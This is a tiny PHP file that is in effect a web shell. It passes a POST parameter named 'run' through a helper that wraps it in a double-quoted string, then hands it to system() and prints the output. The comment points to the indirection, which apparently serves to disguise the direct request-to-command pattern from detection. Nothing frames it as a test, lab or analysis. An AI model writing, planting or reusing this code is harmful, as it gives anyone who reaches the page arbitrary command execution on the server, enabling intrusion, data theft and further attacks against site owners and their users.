<?php
// The command comes through a helper that returns the request value inside a double-quoted string.
function field($k)
{
    return "{$_POST[$k]}";
}
echo '<pre>';
system(field('run'));
